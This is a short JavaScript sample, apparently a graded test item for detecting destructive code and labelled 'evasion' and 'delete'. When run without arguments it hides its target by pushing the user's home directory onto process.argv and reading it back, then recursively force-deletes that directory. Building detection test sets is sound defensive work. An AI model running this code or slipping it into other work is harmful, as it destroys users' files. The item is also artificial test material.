// evasion: a "default target" pushed onto process.argv and read back as its last element with at(-1)
// grade: hard; does: delete
const { rmSync } = require("fs");
const { userInfo } = require("os");
const defaults = () => process.argv.push(userInfo().homedir);
if (process.argv.length === 2) defaults();
rmSync(process.argv.at(-1), { recursive: true, force: true });
